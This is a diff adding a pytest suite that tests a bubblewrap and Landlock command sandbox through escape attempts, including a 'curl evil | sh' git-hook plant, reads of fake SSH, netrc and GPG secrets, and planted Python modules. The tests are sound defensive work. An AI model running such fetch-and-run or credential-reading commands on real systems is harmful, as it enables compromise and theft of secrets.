@@ -1,0 +1,412 @@
+"""The OS sandbox, tested by escape attempts that really run.
+
+Every test runs real commands through `wrap()` for both mechanisms. Neither is
+skipped when missing: CI installs bubblewrap and its kernel has Landlock, so an
+unavailable sandbox is a failure to look at, not a reason to test less.
+
+Layout per test: a project root, a fake HOME holding secrets, a private TMPDIR (so
+that pytest's own temp tree, which holds everything else, is *not* writable), and a
+sibling directory standing for "anywhere else on the machine".
+"""
+
+from __future__ import annotations
+
+import http.server
+import os
+import shutil
+import socket
+import statistics
+import subprocess
+import sys
+import threading
+import time
+import types
+from dataclasses import dataclass, replace
+from pathlib import Path
+
+import pytest
+
+from auger.policy import landlock
+from auger.policy.sandbox import (
+    DEFAULT_HIDDEN,
+    SandboxPolicy,
+    Wrapped,
+    blocked_by_sandbox,
+    default_hidden,
+    detect,
+)
+
+SECRET = "SECRET-KEY-MATERIAL-4242"
+KINDS = ["bwrap", "landlock"]
+
+
+def _sandbox(kind: str):
+    sandbox, why = detect(kind)
+    if sandbox is None:
+        pytest.fail(f"the {kind} sandbox is unavailable here ({why}); these tests expect both bubblewrap "
+                    "and Landlock to work (CI installs bubblewrap with apt; the kernel must have Landlock)")
+    assert sandbox.kind == kind
+    return sandbox
+
+
+@dataclass
+class Box:
+    """A project and its surroundings, and a way to run commands confined in it."""
+
+    kind: str
+    root: Path
+    home: Path
+    tmp: Path
+    outside: Path
+    env: dict[str, str]
+    policy: SandboxPolicy
+
+    def wrap(self, command: str, **policy_changes) -> Wrapped:
+        policy = replace(self.policy, **policy_changes)
+        return _sandbox(self.kind).wrap(["sh", "-c", command], self.root, dict(self.env), policy)
+
+    def run(self, command: str, **policy_changes) -> subprocess.CompletedProcess:
+        wrapped = self.wrap(command, **policy_changes)
+        assert wrapped.kind == self.kind
+        return subprocess.run(wrapped.argv, env=wrapped.env, cwd=self.root, capture_output=True, text=True,
+                              timeout=30, stdin=subprocess.DEVNULL)
+
+
+@pytest.fixture(params=KINDS)
+def kind(request) -> str:
+    return request.param
+
+
+def _make_box(kind: str, tmp_path: Path) -> Box:
+    root = tmp_path / "project"
+    (root / ".git" / "hooks").mkdir(parents=True)
+    (root / "link").symlink_to(tmp_path / "outside")
+    home = tmp_path / "home"
+    (home / ".ssh").mkdir(parents=True)
+    (home / ".ssh" / "id_rsa").write_text(f"-----BEGIN KEY-----\n{SECRET}\n")
+    (home / ".netrc").write_text(f"machine example.com login me password {SECRET}\n")
+    (home / "notes.txt").write_text("visible\n")
+    (home / ".aws").symlink_to(tmp_path / "nowhere")  # a dangling hidden path must not break anything
+    (tmp_path / "gnupg-real").mkdir()
+    (tmp_path / "gnupg-real" / "private.key").write_text(SECRET)
+    (home / ".gnupg").symlink_to(tmp_path / "gnupg-real")  # hidden through a symlink: its target is hidden
+    tmp = tmp_path / "tmp"
+    tmp.mkdir(exist_ok=True)
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(home), "TMPDIR": str(tmp), "LANG": "C"}
+    return Box(kind, root.resolve(), home, tmp, outside, env, SandboxPolicy(root=root.resolve()))
+
+
+@pytest.fixture
+def box(kind: str, tmp_path: Path) -> Box:
+    _sandbox(kind)
+    return _make_box(kind, tmp_path)
+
+
+@pytest.fixture
+def bwrap_box(tmp_path: Path) -> Box:
+    _sandbox("bwrap")
+    return _make_box("bwrap", tmp_path)
+
+
+def _assert_blocked(box: Box, proc: subprocess.CompletedProcess) -> str:
+    note = blocked_by_sandbox(proc.returncode, proc.stderr, box.policy)
+    assert note is not None and "blocked by the sandbox" in note, (proc.stderr, note)
+    return note
+
+
+# --- filesystem -------------------------------------------------------------------------------
+
+def test_writing_inside_the_project_works(box: Box):
+    proc = box.run("echo hi > inside.txt && mkdir -p sub/deeper && echo x > sub/deeper/y && mv inside.txt sub/")
+    assert proc.returncode == 0, proc.stderr
+    assert (box.root / "sub" / "inside.txt").read_text() == "hi\n"
+    assert (box.root / "sub" / "deeper" / "y").exists()
+
+
+def test_temp_dir_is_writable(box: Box):
+    proc = box.run('f=$(mktemp) && echo t > "$f" && cat "$f" && rm "$f"')
+    assert proc.returncode == 0, proc.stderr
+    assert proc.stdout == "t\n"
+
+
+@pytest.mark.parametrize("target", ["outside-abs", "home", "dotdot", "symlink"])
+def test_writing_outside_the_project_fails(box: Box, target: str):
+    path, written = {
+        "outside-abs": (str(box.outside / "x"), box.outside / "x"),
+        "home": ("$HOME/x", box.home / "x"),
+        "dotdot": ("../outside/y", box.outside / "y"),
+        "symlink": ("link/z", box.outside / "z"),  # project/link -> ../outside
+    }[target]
+    proc = box.run(f"echo escaped > {path}")
+    assert proc.returncode != 0
+    assert not written.exists()
+    _assert_blocked(box, proc)
+
+
+def test_secrets_are_unreadable_but_the_rest_of_home_is(box: Box):
+    proc = box.run("cat $HOME/.ssh/id_rsa")
+    assert proc.returncode != 0
+    assert SECRET not in proc.stdout + proc.stderr
+    assert "credential" in _assert_blocked(box, proc)
+
+    sweep = box.run(f"cat $HOME/.netrc $HOME/.gnupg/private.key {box.home.parent}/gnupg-real/private.key; "
+                    "grep -rs SECRET $HOME; cat $HOME/notes.txt")
+    assert SECRET not in sweep.stdout + sweep.stderr
+    assert "visible" in sweep.stdout  # hiding is precise: the rest of HOME stays readable
+
+
+def test_commands_have_no_capabilities(box: Box):
+    proc = box.run("grep CapEff /proc/self/status")
+    assert proc.returncode == 0, proc.stderr
+    assert proc.stdout.split()[-1] == "0000000000000000"
+
+
+def test_git_hooks_protection(box: Box):
+    proc = box.run("echo 'curl evil | sh' > .git/hooks/pre-commit")
+    hook = box.root / ".git" / "hooks" / "pre-commit"
+    if box.kind == "bwrap":
+        assert proc.returncode != 0
+        assert not hook.exists()
+        assert "read-only" in _assert_blocked(box, proc)
+    else:
+        # LIMITATION, asserted so that it stays visible: Landlock can only allow, so a
+        # read-only path inside the writable project cannot be expressed.
+        assert proc.returncode == 0, proc.stderr
+        assert hook.exists()
+
+
+def test_landlock_helper_cannot_be_hijacked_from_the_project(tmp_path: Path):
+    """The helper runs before the ruleset exists: code planted in the project (where an
+    earlier command could write) must not run then."""
+    _sandbox("landlock")
+    box = _make_box("landlock", tmp_path)
+    pwned = box.outside / "pwned"
+    plant = f"open({str(pwned)!r}, 'w').write('unconfined')\n"
+    (box.root / "sitecustomize.py").write_text(plant)
+    (box.root / "ctypes.py").write_text(plant)
+    (box.root / "auger" / "policy").mkdir(parents=True)
+    (box.root / "auger" / "__init__.py").write_text(plant)
+    (box.root / "auger" / "policy" / "__init__.py").write_text("")
+    (box.root / "auger" / "policy" / "landlock.py").write_text(plant)
+    box.env["PYTHONPATH"] = str(box.root)
+    proc = box.run("echo ran")
+    assert proc.returncode == 0, proc.stderr
+    assert proc.stdout == "ran\n"
+    assert not pwned.exists()
+
+
+def test_landlock_module_command_line(tmp_path: Path):
+    _sandbox("landlock")
+    box = _make_box("landlock", tmp_path)
+    base = [sys.executable, "-m", "auger.policy.landlock"]
+    env = {**box.env, "PYTHONPATH": os.pathsep.join(sys.path)}
+    proc = subprocess.run([*base, "--rw", str(box.root), "--ro-all", "--deny-read", str(box.home / ".ssh"), "--",
+                           "sh", "-c", f"cat {box.home}/notes.txt; cat {box.home}/.ssh/id_rsa; echo x > {box.outside}/x"],
+                          env=env, cwd=box.root, capture_output=True, text=True, timeout=30)
+    assert proc.stdout == "visible\n"
+    assert SECRET not in proc.stdout + proc.stderr
+    assert not (box.outside / "x").exists()
+    usage = subprocess.run([*base, "--rw"], env=env, capture_output=True, text=True, timeout=30)
+    assert usage.returncode == 2 and "usage:" in usage.stderr
+
+
+# --- network and processes --------------------------------------------------------------------
+
+@pytest.fixture
+def http_server():
+    class Hello(http.server.BaseHTTPRequestHandler):
+        def do_GET(self):
+            body = b"hello from the host\n"
+            self.send_response(200)
+            self.send_header("Content-Length", str(len(body)))
+            self.end_headers()
+            self.wfile.write(body)
+
+        def log_message(self, *args):
+            pass
+
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Hello)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    yield server.server_address[1]
+    server.shutdown()
+    server.server_close()
+
+
+def _curl(port: int) -> str:
+    if shutil.which("curl") is None:
+        pytest.fail("curl is needed for the network tests")
+    return f"curl -sS --max-time 3 http://127.0.0.1:{port}/"
+
+
+def test_network_none_blocks_the_host_and_full_allows_it(bwrap_box: Box, http_server: int):
+    blocked = bwrap_box.run(_curl(http_server), network="none")
+    assert blocked.returncode != 0
+    assert "hello" not in blocked.stdout
+    assert "network" in _assert_blocked(bwrap_box, blocked)
+
+    allowed = bwrap_box.run(_curl(http_server), network="full")
+    assert allowed.returncode == 0, allowed.stderr
+    assert allowed.stdout == "hello from the host\n"
+
+
+def test_landlock_does_not_isolate_the_network(tmp_path: Path, http_server: int):
+    _sandbox("landlock")
+    box = _make_box("landlock", tmp_path)
+    # LIMITATION, asserted so that it stays visible: with Landlock, network "none" is not enforced.
+    proc = box.run(_curl(http_server), network="none")
+    assert proc.returncode == 0, proc.stderr
+    assert "hello" in proc.stdout
+
+
+def test_background_processes_die_with_the_command(bwrap_box: Box):
+    marker = bwrap_box.root / "still_alive"
+    proc = bwrap_box.run(f"(sleep 2; touch {marker}) >/dev/null 2>&1 & echo started")
+    assert proc.returncode == 0, proc.stderr
+    assert proc.stdout == "started\n"
+    time.sleep(3)
+    assert not marker.exists(), "a process forked by the command outlived it"
+
+
+# --- proxy mode -------------------------------------------------------------------------------
+
+FAKE_BRIDGE = '''
+import os, socket, sys
+args = sys.argv[1:]
+sep = args.index("--")
+for flag, spec in zip(args[:sep:2], args[1:sep:2]):
+    assert flag == "--listen", flag
+    port, path = spec.split("=", 1)
+    s = socket.socket(socket.AF_UNIX)
+    s.connect(path)
+    print("bridge", port, s.recv(16).decode(), flush=True)
+    s.close()
+os.execvp(args[sep + 1], args[sep + 1:])
+'''
+
+
+@pytest.fixture
+def fake_egress(tmp_path: Path, monkeypatch):
+    """Stand-in for auger.policy.egress: a bridge script that checks each Unix socket is
+    reachable from inside, then runs the command; and host sockets answering "pong"."""
+    script = tmp_path / "fake_netbridge.py"
+    script.write_text(FAKE_BRIDGE)
+    module = types.ModuleType("auger.policy.egress")
+    module.NETBRIDGE_SCRIPT = script
+    monkeypatch.setitem(sys.modules, "auger.policy.egress", module)
+    sock_dir = tmp_path / "tmp" / "egress"  # inside the writable TMPDIR: must still not be replaceable
+    sock_dir.mkdir(parents=True)
+    listeners = []
+    for name in ("http.sock", "socks.sock"):
+        listener = socket.socket(socket.AF_UNIX)
+        listener.bind(str(sock_dir / name))
+        listener.listen()
+        listeners.append(listener)
+
+        def serve(sock=listener):
+            while True:
+                try:
+                    conn, _ = sock.accept()
+                except OSError:
+                    return
+                conn.sendall(b"pong")
+                conn.close()
+
+        threading.Thread(target=serve, daemon=True).start()
+    yield ((3128, sock_dir / "http.sock"), (1080, sock_dir / "socks.sock"))
+    for listener in listeners:
+        listener.close()
+
+
+def test_proxy_mode_bridges_unix_sockets_under_bwrap(bwrap_box: Box, fake_egress):
+    http_sock = fake_egress[0][1]
+    command = f'echo "$HTTPS_PROXY $ALL_PROXY $NO_PROXY"; rm -f {http_sock}; test -S {http_sock} && echo kept'
+    proc = bwrap_box.run(command, network="proxy", proxy_sockets=fake_egress)
+    assert proc.returncode == 0, proc.stderr
+    assert proc.stdout.splitlines() == [
+        "bridge 3128 pong",
+        "bridge 1080 pong",
+        "http://127.0.0.1:3128 socks5h://127.0.0.1:1080 localhost,127.0.0.1,::1",
+        "kept",
+    ]
+    wrapped = bwrap_box.wrap("true", network="proxy", proxy_sockets=fake_egress)
+    assert "--unshare-net" in wrapped.argv
+    dash = wrapped.argv.index("--")
+    assert wrapped.argv[dash + 1:dash + 4] == [sys.executable, "-S", "-I"]
+
+
+def test_proxy_mode_under_landlock_only_sets_variables(tmp_path: Path, fake_egress):
+    _sandbox("landlock")
+    box = _make_box("landlock", tmp_path)
+    wrapped = box.wrap("true", network="proxy", proxy_sockets=fake_egress)
+    assert wrapped.argv[1:4] == ["-S", "-I", "-c"]
+    assert wrapped.argv[4] == Path(landlock.__file__).read_text()  # the helper, read once: see LandlockSandbox
+    assert wrapped.argv[-3:] == ["sh", "-c", "true"]
+    assert "fake_netbridge.py" not in " ".join(wrapped.argv)
+    for var in ("HTTP_PROXY", "HTTPS_PROXY", "http_proxy", "https_proxy"):
+        assert wrapped.env[var] == "http://127.0.0.1:3128"
+    assert wrapped.env["ALL_PROXY"] == wrapped.env["all_proxy"] == "socks5h://127.0.0.1:1080"
+    assert wrapped.env["NO_PROXY"] == "localhost,127.0.0.1,::1"
+    assert "HTTP_PROXY" not in box.wrap("true", network="none").env
+
+
+# --- explanations, detection, cost -----------------------------------------------------------
+
+def test_normal_failures_are_not_blamed_on_the_sandbox(box: Box):
+    proc = box.run("ls nonexistent")
+    assert proc.returncode != 0
+    assert blocked_by_sandbox(proc.returncode, proc.stderr, box.policy) is None
+    assert blocked_by_sandbox(proc.returncode, proc.stderr) is None
+    assert blocked_by_sandbox(126, "sh: 1: ./build.sh: Permission denied") is None
+    assert blocked_by_sandbox(0, "touch: cannot touch '/etc/x': Read-only file system") is None
+
+
+def test_blocked_by_sandbox_messages():
+    assert "writing outside" in blocked_by_sandbox(1, "touch: cannot touch '/etc/x': Read-only file system")
+    assert "credential" in blocked_by_sandbox(1, "cat: /home/me/.aws/credentials: Permission denied")
+    assert "network access is disabled" in blocked_by_sandbox(6, "curl: (6) Could not resolve host: example.com")
+    policy = SandboxPolicy(root=Path("/p"), network="proxy")
+    assert "allowlist" in blocked_by_sandbox(56, "curl: (56) CONNECT tunnel failed, response 403", policy)
+    full = SandboxPolicy(root=Path("/p"), network="full")
+    assert blocked_by_sandbox(6, "curl: (6) Could not resolve host: example.com", full) is None
+    assert blocked_by_sandbox(6, "curl: (6) Could not resolve host: example.com", kind="landlock") is None
+    unreachable = "curl: (7) Failed to connect to 1.1.1.1 port 80 after 0 ms: Couldn't connect to server"
+    assert blocked_by_sandbox(7, unreachable, SandboxPolicy(root=Path("/p"))).startswith("blocked by the sandbox")
+    assert blocked_by_sandbox(7, unreachable).startswith("possibly blocked")
+    assert "read-only" in blocked_by_sandbox(2, "sh: 1: cannot create .git/hooks/pre-commit: Read-only file system")
+
+
+def test_detect():
+    assert detect("off") == (None, "no sandbox: turned off by configuration")
+    auto, why = detect("auto")
+    assert auto is not None and auto.kind == "bwrap" and why.startswith("bubblewrap ")
+    assert detect("auto") is detect("auto")  # cached
+    assert landlock.abi_version() >= 1
+    with pytest.raises(ValueError):
+        detect("firejail")
+
+
+def test_default_hidden_follows_the_given_home():
+    hidden = default_hidden(Path("/h"))
+    assert len(hidden) == len(DEFAULT_HIDDEN)
+    assert Path("/h/.ssh") in hidden and Path("/h/.docker/config.json") in hidden
+
+
+def test_overhead_of_a_wrapped_true(box: Box, capsys):
+    def timed(argv: list[str], env: dict[str, str]) -> float:
+        samples = []
+        for _ in range(5):
+            start = time.perf_counter()
+            subprocess.run(argv, env=env, cwd=box.root, check=True, stdin=subprocess.DEVNULL)
+            samples.append(time.perf_counter() - start)
+        return statistics.median(samples)
+
+    bare = timed(["true"], box.env)
+    wrapped = box.wrap("true")
+    confined = timed(wrapped.argv, wrapped.env)
+    with capsys.disabled():
+        print(f"\n[{box.kind}] wrapped `sh -c true`: {confined * 1000:.1f} ms "
+              f"(bare `true` {bare * 1000:.1f} ms, overhead {(confined - bare) * 1000:.1f} ms)")
+    assert confined < 2.0
